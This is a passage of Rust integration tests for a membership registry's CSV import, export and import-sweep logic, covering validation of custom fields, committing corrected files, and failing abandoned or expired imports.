    // Custom cells are checked with the row: the bad ones named by their labels.
    let with = |name: &str, number: &str, custom: [&str; 3]| {
        let mut row = member(&template[1], &place, name, number, "男");
        row.splice(before[1].len().., custom.iter().map(|cell| (*cell).to_owned()));
        row
    };
    let mut file = template.clone();
    file.push(with("周一", &numbers[0], ["甲", "12", "是"]));
    file.push(with("周二", &numbers[1], ["丙", "十二", "no"]));
    let (_, _, body) = send(&router, upload(&format!("{MEMBERS}/import"), &leader, "党员.csv", &csv_file(&file))).await;
    let preview = json(&body);
    assert_eq!((preview["total"].as_u64(), preview["good"].as_u64()), (Some(2), Some(1)), "{body}");
    let mut errors: Vec<(u64, String, String)> = preview["errors"]
        .as_array()
        .expect("errors")
        .iter()
        .map(|e| (e["row"].as_u64().unwrap_or(0), e["field"].to_string(), e["code"].to_string()))
        .collect();
    errors.sort();
    assert_eq!(
        errors,
        vec![
            (4, "\"承诺等级\"".into(), "\"field.not_a_choice\"".into()),
            (4, "\"服务时长\"".into(), "\"field.not_a_number\"".into()),
        ]
    );
    assert_eq!(members_with(&db, &numbers).await, 0);

    // Corrected, the file imports whole, the custom values in `extra` as the form keeps them.
    file[3] = with("周二", &numbers[1], ["乙", "", "No"]);
    let (_, _, body) = send(&router, upload(&format!("{MEMBERS}/import"), &leader, "党员.csv", &csv_file(&file))).await;
    let preview = json(&body);
    assert_eq!(preview["good"], 2, "{body}");
    let id = preview["import_id"].as_i64().expect("an id");
    send(&router, post(&format!("/api/engine/imports/{id}/commit"), &leader).body(Body::empty()).expect("request"))
        .await;
    assert_eq!(finished(&router, &leader, id).await["status"], "done");
    #[derive(diesel::QueryableByName)]
    struct Extra {
        #[diesel(sql_type = Text)]
        extra: String,
    }
    let kept: Vec<Extra> = Sql::new("SELECT extra::text AS extra FROM reg.party_members WHERE id_number = ANY (")
        .bind(numbers.clone())
        .push(") ORDER BY name")
        .query()
        .load(&mut *db.conn().await)
        .await
        .expect("extra");
    let kept: Vec<serde_json::Value> = kept.iter().map(|row| json(&row.extra)).collect();
    assert_eq!(kept[0], serde_json::json!({"pledge": "甲", "hours": 12, "volunteer": true}));
    assert_eq!(kept[1], serde_json::json!({"pledge": "乙", "volunteer": false}));

    // The export carries every custom field, shown in the list or not, as a person reads it.
    let (status, _, body) =
        send_for_bytes(&router, get(&format!("{MEMBERS}/export.csv?q=%E5%91%A8&sort=name&dir=asc"), Some(&leader)))
            .await;
    assert_eq!(status, StatusCode::OK);
    let rows = csv_rows(&body);
    let at = |title: &str| rows[0].iter().position(|cell| cell == title).expect(title);
    let (pledge, hours, volunteer) = (at("承诺等级"), at("服务时长"), at("志愿者"));
    let first = rows.iter().find(|row| row.contains(&"周一".to_owned())).expect("周一 exported");
    assert_eq!((&*first[pledge], &*first[hours], &*first[volunteer]), ("甲", "12", "是"));
    let second = rows.iter().find(|row| row.contains(&"周二".to_owned())).expect("周二 exported");
    assert_eq!((&*second[pledge], &*second[hours], &*second[volunteer]), ("乙", "", "否"));
    // An export read back imports as the template does (its headers are the labels).
    let mut again = vec![rows[0].clone()];
    let mut copy = first.clone();
    let id_column = at("公民身份号码");
    copy[id_column] = id_number(603);
    again.push(copy);
    let (_, _, body) =
        send(&router, upload(&format!("{MEMBERS}/import"), &leader, "导出.csv", &csv_file(&again))).await;
    assert_eq!(json(&body)["good"], 1, "{body}");
    db.finish().await;
}

/// An import whose writing process died (its lock free) is failed by the sweep, one still
/// being written (its lock held) is left alone, and a clean preview left for a day loses its
/// file; a fresh preview keeps it.
#[tokio::test]
async fn imports_nobody_will_finish_are_ended_by_the_sweep() {
    use shared::engine::service::imports;
    let db = TestDb::new().await;
    let router = router(&db);
    let leader = login(&router, "leader").await;
    let place = place(&db).await;
    let (_, _, body) = send_for_bytes(&router, get(&format!("{MEMBERS}/template.csv"), Some(&leader))).await;
    let template = csv_rows(&body);
    let mut ids = Vec::new();
    for serial in 701..705 {
        let mut file = template.clone();
        file.push(member(&template[1], &place, &format!("吴{serial}"), &id_number(serial), "男"));
        let (_, _, body) =
            send(&router, upload(&format!("{MEMBERS}/import"), &leader, "党员.csv", &csv_file(&file))).await;
        let preview = json(&body);
        assert_eq!(preview["good"], 1, "{body}");
        ids.push(preview["import_id"].as_i64().expect("an id"));
    }
    let [dead, alive, stale, fresh] = ids[..] else { unreachable!() };
    let mut conn = db.conn().await;
    Sql::new("UPDATE engine_imports SET status = 'running' WHERE id = ANY (")
        .bind(vec![dead, alive])
        .push(")")
        .query()
        .execute(&mut conn)
        .await
        .expect("claimed");
    Sql::new("UPDATE engine_imports SET created_at = now() - interval '25 hours' WHERE id = ")
        .bind(stale)
        .query()
        .execute(&mut conn)
        .await
        .expect("a day old");
    drop(conn);
    // The living writer: a connection of its own, as another server process has.
    let mut writer = <diesel_async::AsyncPgConnection as diesel_async::AsyncConnection>::establish(&db.url())
        .await
        .expect("a connection");
    imports::hold(&mut writer, alive).await.expect("the living writer's lock");

    let swept = imports::sweep(&mut *db.conn().await).await.expect("sweep");
    assert_eq!(swept, imports::Swept { abandoned: 1, expired: 1 });
    #[derive(diesel::QueryableByName)]
    struct State {
        #[diesel(sql_type = Text)]
        status: String,
        #[diesel(sql_type = diesel::sql_types::Bool)]
        has_file: bool,
    }
    let state = async |id: i64| -> (String, bool) {
        let row: State =
            diesel::sql_query("SELECT status, file IS NOT NULL AS has_file FROM engine_imports WHERE id = $1")
                .bind::<BigInt, _>(id)
                .get_result(&mut *db.conn().await)
                .await
                .expect("import");
        (row.status, row.has_file)
    };
    assert_eq!(state(dead).await, ("failed".to_owned(), false));
    assert_eq!(state(alive).await, ("running".to_owned(), true));
    assert_eq!(state(stale).await, ("failed".to_owned(), false));
    assert_eq!(state(fresh).await, ("previewed".to_owned(), true));
    // The user's page says why.
    let progress = finished(&router, &leader, dead).await;
    assert_eq!(progress["errors"][0]["code"], "import.abandoned", "{progress}");
    assert_eq!(finished(&router, &leader, stale).await["errors"][0]["code"], "import.expired");
    let (status, _, _) = send(
        &router,
        post(&format!("/api/engine/imports/{stale}/commit"), &leader).body(Body::empty()).expect("request"),
    )
    .await;
    assert_eq!(status, StatusCode::CONFLICT);
    assert_eq!(members_with(&db, &[id_number(701), id_number(703)]).await, 0);

    // The writer's process gone (its connection closed), the next sweep ends its import too.
    drop(writer);
    // (The server ends the closed session a moment later.)
    let mut swept = imports::Swept::default();
    for _ in 0..50 {
        swept = imports::sweep(&mut *db.conn().await).await.expect("sweep");
        if swept.abandoned > 0 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert_eq!(swept, imports::Swept { abandoned: 1, expired: 0 });
    assert_eq!(state(alive).await.0, "failed");
    db.finish().await;
}
